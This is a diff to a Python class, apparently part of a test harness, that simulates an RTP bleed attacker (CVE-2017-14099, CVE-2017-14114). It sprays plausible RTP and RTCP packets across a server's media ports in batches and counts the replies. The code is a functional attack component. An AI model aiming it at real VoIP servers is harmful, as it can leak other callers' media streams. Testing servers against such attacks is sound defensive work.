@@ -1,4 +1,4 @@
-"""An attacker on the media ports (RTP bleed, CVE-2017-14099): sends perfectly plausible RTP and RTCP to them and counts
+"""An attacker on the media ports (RTP bleed, CVE-2017-14099, CVE-2017-14114): sends perfectly plausible RTP and RTCP to them and counts
 what comes back."""
 import select
 import socket
@@ -18,22 +18,25 @@ def rtcp():
 
 
 class Sprayer:
-    """Sends to the ports around a leg until told to stop, and counts what comes back."""
+    """Sends to these ports, round and round, `at_once` of them every 4 ms or so, until told to stop; counts what comes back."""
 
-    def __init__(self, namespace, address, target, ports, ssrc=0x0BADCAFE):
+    def __init__(self, namespace, address, target, ports, ssrc=0x0BADCAFE, at_once=10):
         with namespace.entered():
             self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
             self.socket.bind((address, 0))
-        self.target, self.ports, self.ssrc = target, ports, ssrc
+        self.target, self.ports, self.ssrc, self.at_once = target, ports, ssrc, at_once
         self.sent = self.received = 0
         self._stop = threading.Event()
         self._thread = threading.Thread(target=self._run, daemon=True)
         self._thread.start()
 
     def _run(self):
-        sequence = 0
+        sequence = at = 0
         while not self._stop.is_set():
-            for port in self.ports:
+            some, at = self.ports[at:at + self.at_once], at + self.at_once
+            if at >= len(self.ports):
+                at = 0
+            for port in some:
                 try:
                     self.socket.sendto(rtcp() if port % 2 else rtp(sequence & 0xFFFF, self.ssrc), (self.target, port))
                     self.sent += 1
